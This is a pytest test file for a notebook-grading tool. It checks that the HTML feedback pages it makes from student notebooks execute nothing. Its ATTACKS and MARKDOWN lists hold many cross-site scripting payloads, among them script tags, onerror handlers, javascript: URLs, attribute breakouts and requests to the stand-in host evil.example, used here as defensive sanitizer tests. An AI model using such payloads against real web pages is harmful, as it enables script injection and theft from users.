"""Feedback shows a student's work and runs nothing of it, in nobody's browser."""

import json
import os
import re
import shutil
from collections.abc import Callable
from copy import deepcopy
from pathlib import Path
from typing import Any

import pandas
import pytest
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbformat.v4 import new_code_cell, new_markdown_cell, new_raw_cell
from nbgrader.api import Gradebook
from nbgrader.server_extensions.formgrader import handlers

from course_lib.grading import course, mathml, outputs, safe_html, verdicts
from course_lib.grading.course import Course
from course_lib.grading.errors import CourseError
from course_lib.grading.feedback import feedback
from course_lib.grading.safe_html import clean_html
from course_lib.lab.verdict import Verdict
from tests.grading.released_notebook import answer, fill, prose, released_test, solution, task

ROOT = Path(__file__).parents[2]
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5E"
ATTACKS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js>",
    '<img src=x onerror="alert(1)">',
    "<img src='x.png' OnError=alert(1)//",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" java&#x0A;script&colon;alert(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>body{display:none}</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<form action="https://evil.example"><input name=q><button>x</button></form>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<p style="position:fixed;top:0;background:url(https://evil.example)">x</p>',
    '<p id="toc" class="score btn full-credit" onclick="alert(1)" name="top">x</p>',
    '<img src="https://evil.example/spy.png">',
    '<img src="//evil.example/spy.png">',
    '<img src="data:text/html;base64,PHNjcmlwdD4=">',
    "<!--><script>alert(1)</script>-->",
    "<noscript><p title='</noscript><script>alert(1)</script>'>",
    "</div></div></body><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<plaintext>',
]  # fmt: skip
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "![x](javascript:alert(1))",
    '![x](x.png "\\" onerror=alert(1) \\"")',
    "<javascript:alert(1)>",
    "![](attachment:gone.png)",
    "```mermaid\n<img src=x onerror=alert(1)>\n```",
    "```html\n<script>alert(1)</script>\n```",
    "$<script>alert(1)</script>$ and $$<img src=x onerror=alert(1)>$$",
    "# title <script>alert(1)</script>",
    r"$\href{javascript:alert(1)}{x}$ $\style{position:fixed}{x}$ $\class{full-credit}{x}$",
    r"$\text{<script>alert(1)</script>}$ $\unicode{x3c}script\unicode{x3e}$",
    r"$\color{red\" onmouseover=\"alert(1)}{x}$",
    "![$x$ \" onerror=alert(1)](x.png '$x$ \" onerror=alert(1)')",
    "<img alt='$x$' src=x.png title=\"$\\text{' onerror=alert(1)}$\">",
    '![$" onerror=alert(1) x="$](x.png)',
    "<math><mi href=javascript:alert(1)>x</mi></math> $x$",
    "$x$ <span>&#xe000;0&#xe000;</span> &#xe000;9&#xe000; \ue0000\ue000",
]


def assert_nothing_runs(page: str) -> None:
    """A page loads, runs and hides nothing."""
    soup = BeautifulSoup(page, "html.parser")
    assert len(soup("style")) == template_styles()
    assert "evil.example" not in "".join(style.text for style in soup("style"))
    named = ("iframe", "object", "embed", "base", "form", "input", "button", "link", "svg")
    assert not soup([*named, "video", "audio", "details", "template", "noscript", "plaintext"])
    assert not soup("script")
    for formula in soup("math"):
        for part in [formula, *formula(True)]:
            assert part.name in mathml._ELEMENTS
            assert set(part.attrs) <= set(mathml._VALUES), part
    ours = [meta.get("name") or meta.get("http-equiv") for meta in soup("meta")]
    assert ours == [None, "viewport", "Content-Security-Policy"]
    for element in soup(True):
        for name, value in element.attrs.items():
            assert not name.startswith("on"), element
            assert name not in ("srcdoc", "srcset", "action", "formaction", "xlink:href"), element
            text = "".join(value if isinstance(value, list) else [str(value)]).lower()
            if name in ("href", "src"):
                assert not text.strip().startswith(("javascript", "data:text")), element
                assert "evil.example" not in text, element
            if name == "style":
                assert "position" not in text, element
                assert "url" not in text, element
            if name in ("id", "class"):
                assert "full-credit" not in text, element
    assert len(soup.select("#toc")) == 0


def template_styles() -> int:
    """How many style elements the page of an empty notebook has."""
    return 2


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A course with one released notebook and a gradebook."""
    folder = tmp_path_factory.mktemp("course")
    shutil.copy(ROOT / "nbgrader_config.py", folder)
    fill(f"sqlite:///{folder}/gradebook.db")
    return folder


Page = Callable[..., str]


@pytest.fixture
def page(root: Path) -> Page:
    """The feedback page of a graded notebook, written field by field as it might be."""

    def made(*cells: Any, student: str = "ada", **metadata: Any) -> str:
        found = course.find(root)
        for folder in ("autograded", "feedback"):
            shutil.rmtree(root / folder / student, ignore_errors=True)
        write(root, student, cells, metadata)
        (path,) = (p for p in feedback(found, "tiny") if p.parts[-3] == student)
        return path.read_text(encoding="utf-8")

    return made


def write(root: Path, student: str, cells: Any, metadata: Any) -> Path:
    whole = [prose(), solution(), judged(), answer(), task(), *cells]
    nb = {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": whole}
    path = root / "autograded" / student / "tiny" / "tiny.ipynb"
    path.parent.mkdir(parents=True)
    path.write_text(json.dumps(nb))
    with Gradebook(f"sqlite:///{root}/gradebook.db", "attention") as book:
        book.update_or_create_student(student)
        book.update_or_create_submission("tiny", student)
    return path


def judged() -> Any:
    cell = released_test()
    sentence = "It is <b>squared</b>."
    verdict = Verdict(
        check="double", points=0.0, max_points=2.0, fault="squared", sentence=sentence
    )
    cell.outputs = [verdicts.to_output(verdict)]
    return cell


def shown(kind: str, data: Any, **fields: Any) -> Any:
    """A code cell with one output, as raw as a kernel may send it."""
    output = {"output_type": kind, "data": data, "metadata": {}} | fields
    return new_code_cell("1") | {"outputs": [output]}


def test_attacks_in_every_place_run_nothing(page: Page) -> None:
    cells: list[Any] = []
    for attack in ATTACKS:
        cells += [
            new_markdown_cell(attack),
            new_markdown_cell(f"text {attack} text"),
            new_code_cell(f"# {attack}"),
            new_raw_cell(attack),
            new_raw_cell(attack, metadata={"raw_mimetype": "text/html"}),
            *(
                shown("display_data", {kind: attack})
                for kind in (
                    "text/html", "text/markdown", "text/latex", "text/plain", "image/svg+xml",
                    "image/png", "application/javascript", "text/vnd.mermaid", "application/json",
                    "application/vnd.jupyter.widget-view+json",
                )
            ),
            shown("stream", None, name="stdout", text=attack),
            shown("stream", None, name="stderr", text=f"\x1b[31m{attack}"),
            shown("error", None, ename=attack, evalue=attack, traceback=[attack, "\x1b[1m"]),
        ]  # fmt: skip
    assert_nothing_runs(page(*cells))


def test_attacks_in_markdowns_own_forms_run_nothing(page: Page) -> None:
    cells = [new_markdown_cell(text) for text in MARKDOWN]
    cells += [shown("display_data", {"text/markdown": text}) for text in MARKDOWN]
    found = page(*cells)
    assert_nothing_runs(found)
    assert "![](attachment:gone.png)" in found


def test_attacks_in_fields_run_nothing(page: Page) -> None:
    break_out = '1 onerror=alert(1) x="><script>alert(1)</script>'
    picture = {"image/png": PNG}
    cells = [
        shown("display_data", picture, metadata={"image/png": {"width": break_out}}),
        shown("display_data", picture, metadata={"image/png": {"alt": break_out, "height": True}}),
        shown("display_data", picture, metadata={"filenames": {"image/png": "https://evil.example"}}),
        shown("display_data", {"text/html": "x"}, metadata={"text/html": {"isolated": True}}),
        shown("execute_result", {"text/plain": "x"}, execution_count=break_out),
        new_code_cell("1") | {"execution_count": break_out},
        new_code_cell("1", metadata={"tags": [break_out], "magics_language": break_out}),
        new_markdown_cell(
            "![x](attachment:a)", attachments={"a": {'image/png"onerror="alert(1)': "x"}}
        ),
    ]  # fmt: skip
    metadata = {
        "title": break_out,
        "language_info": {"name": break_out, "pygments_lexer": [break_out]},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"x": break_out}},
    }
    assert_nothing_runs(page(*cells, **metadata))


@pytest.mark.parametrize(
    "outputs",
    [
        [{"output_type": "unheard_of"}, {"output_type": None}],
        [{"output_type": "stream", "text": 7, "name": ["x"]}],
        [{"output_type": "error", "traceback": [7, ["x"]], "ename": {}}],
        [{"output_type": "display_data", "data": {}, "metadata": []}],
        [{"output_type": "display_data", "data": {"text/html": 7, "image/png": {"a": 1}}}],
        [{"output_type": "execute_result", "data": {"text/plain": ["a", 7]}}],
        [{"output_type": "display_data", "data": {}, "metadata": {"image/png": [1]}}],
    ],
)
def test_outputs_of_wrong_types_stop_no_page(page: Page, outputs: Any) -> None:
    assert "double: 0 of 2 points" in page(new_code_cell("1") | {"outputs": outputs})


def test_what_is_meant_to_be_seen_is_seen(page: Page) -> None:
    frame = pandas.DataFrame({"a": [1.5], "b<c": ["x & y"]})._repr_html_()
    table = '<table><tr><td style="text-align: right">7</td></tr></table>'
    svg = "PHN2Zy8+"
    found = page(
        shown("display_data", {"image/png": PNG}, metadata={"image/png": {"width": 321}}),
        shown("execute_result", {"text/html": frame, "text/plain": "frame"}, execution_count=3),
        shown("display_data", {"text/html": table}),
        shown("stream", None, name="stdout", text="epoch 1 < 2 & \x1b[31mred\x1b[0m"),
        shown("display_data", {"text/html": f'<img src="data:image/svg+xml;base64,{svg}">'}),
        new_markdown_cell(
            "## A heading\n\nIf $a < b$ and $$x \\& y$$, **bold** `code<T>` [link](https://x.org)\n\n"
            "```python\nx = 1\n```\n\n|a|b|\n|-|-|\n|1|2|\n\n![](attachment:mine.png)",
            attachments={"mine.png": {"image/png": PNG}},
        ),
    )
    soup = BeautifulSoup(found, "html.parser")
    verdict = soup.select_one(".output_area p[style]")
    assert verdict is not None
    assert verdict.text == "✗ double: 0 of 2 points. It is <b>squared</b>."
    assert verdict["style"] == "border-left:4px solid #b35900;padding:4px 8px;"
    sources = [str(image["src"]) for image in soup("img")]
    assert sources.count(f"data:image/png;base64,{PNG}") == 2
    assert f"data:image/svg+xml;base64,{svg}" in sources
    assert soup.find("img", width="321") is not None
    assert [th.text for th in soup.select("table.dataframe th")][:3] == ["", "a", "b<c"]
    assert "x & y" in soup.select("table.dataframe")[0].text
    assert ".dataframe tbody tr th" not in soup.text
    assert soup.find("td", style=re.compile("^text-align: ?right;$")) is not None
    assert "epoch 1 < 2 & red" in soup.text
    assert soup.select("span.ansi-red-fg")[0].text == "red"
    formulas = {formula["display"]: formula.text for formula in soup("math")}
    assert formulas == {"inline": "a<b", "block": "x&y"}
    assert [h.text for h in soup("h2")] == ["A heading"]
    assert soup.find("code", string="code<T>") is not None
    assert soup.find("a", href="https://x.org") is not None
    assert soup.select("div.highlight span.n")


def test_hidden_lines_stay_hidden_and_a_students_markers_stop_nothing(page: Page) -> None:
    mine = "x = 1\n### BEGIN HIDDEN TESTS\ny = 2"
    found = page(new_code_cell(mine), new_markdown_cell(mine))
    text = BeautifulSoup(found, "html.parser").text
    assert "check(double)" in text
    assert "grade(double)" not in text
    assert "y = 2" in text


def test_long_and_deep_things_are_shown_short(page: Page) -> None:
    long = outputs.MAX_CHARACTERS * 2
    deep = "<div>" * (safe_html.MAX_MARKS + 1)
    found = page(
        shown("stream", None, name="stdout", text="a" * long),
        shown("display_data", {"text/html": deep}),
        new_markdown_cell("b" * long),
        new_markdown_cell("> " * 5000 + "deep"),
    )
    assert found.count(f"[cut here: {long} characters in all]") == 2
    assert "&lt;div&gt;&lt;div&gt;" in found
    assert len(found) < 10 * long


def test_a_students_files_are_not_beside_the_page(page: Page, root: Path) -> None:
    page()
    (root / "source" / "tiny").mkdir(parents=True)
    (root / "source" / "tiny" / "figure.png").write_bytes(b"ours")
    for name in ("figure.png", "evil.html", "tiny.html", "deep/evil.svg"):
        path = root / "autograded" / "ada" / "tiny" / name
        path.parent.mkdir(exist_ok=True)
        path.write_text("<script>alert(1)</script>")
    (written,) = feedback(course.find(root), "tiny")
    found = {str(p.relative_to(written.parent)) for p in written.parent.rglob("*") if p.is_file()}
    assert found == {"tiny.html", "figure.png"}
    assert_nothing_runs(written.read_text(encoding="utf-8"))


def test_the_formgraders_pages_are_as_safe(root: Path) -> None:
    cells = [new_markdown_cell(attack) for attack in ATTACKS]
    cells += [shown("display_data", {"text/html": attack}) for attack in ATTACKS]
    path = write(root, "formgraded", cells, {})
    config = deepcopy(course.find(root).config)
    # As formgrader makes its exporter.
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    exporter = HTMLExporter(config=config)
    html, _ = exporter.from_filename(str(path), resources={"base_url": "", "index": 0, "total": 1})
    soup = BeautifulSoup(html, "html.parser")
    assert "evil.example" not in html
    assert not [script for script in soup("script") if "alert(1)" in script.text]
    assert not soup(["iframe", "object", "embed", "base", "svg", "form"])
    ours = {"toggle_name(true);", "toggle_name(false);"}
    handled = [e for e in soup(True) if any(name.startswith("on") for name in e.attrs)]
    assert {e.attrs.get("onclick") for e in handled} == ours
    assert "✗ double: 0 of 2 points" in soup.text


@pytest.mark.parametrize("attack", ATTACKS)
def test_clean_html_is_stable(attack: str) -> None:
    assert clean_html(clean_html(attack)) == clean_html(attack)


def test_one_page_that_cannot_be_written_stops_no_other(page: Page, root: Path) -> None:
    page()
    path = write(root, "broken", [], {})
    path.write_text("no notebook")
    with pytest.raises(CourseError, match="of broken could not be written; all others are there"):
        feedback(course.find(root), "tiny")
    assert (root / "feedback" / "ada" / "tiny" / "tiny.html").is_file()
    shutil.rmtree(root / "autograded" / "broken")


def test_processes_share_the_pages(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    students = [f"s{number}" for number in range(9)]
    for student in students:
        write(root, student, [new_markdown_cell(f"by {student}")], {})
    (root / "autograded" / "s8" / "tiny" / "tiny.ipynb").write_text("no notebook")
    found = course.find(root)
    for processes in (1, 2):
        monkeypatch.setattr(os, "cpu_count", lambda processes=processes: processes)
        shutil.rmtree(root / "feedback", ignore_errors=True)
        with pytest.raises(CourseError, match="of s8 could not be written; all others are there"):
            feedback(found, "tiny")
        for student in students[:-1]:
            html = (root / "feedback" / student / "tiny" / "tiny.html").read_text(encoding="utf-8")
            assert f"by {student}" in html
    for student in students:
        shutil.rmtree(root / "autograded" / student)


def test_nothing_graded_is_told(tmp_path: Path) -> None:
    shutil.copy(ROOT / "nbgrader_config.py", tmp_path)
    with pytest.raises(CourseError, match="run `course grade tiny` first"):
        feedback(Course(tmp_path, course.find(tmp_path).config), "tiny")


def test_a_formula_is_drawn_once_however_often_its_place_is_written() -> None:
    place = "<span>&#xe000;0&#xe000;</span>"
    page = safe_html._rendered_once("$" + "x + " * 400 + "x$ " + place * 500)
    assert page.count("<math") == 1
    assert len(page) < 100_000
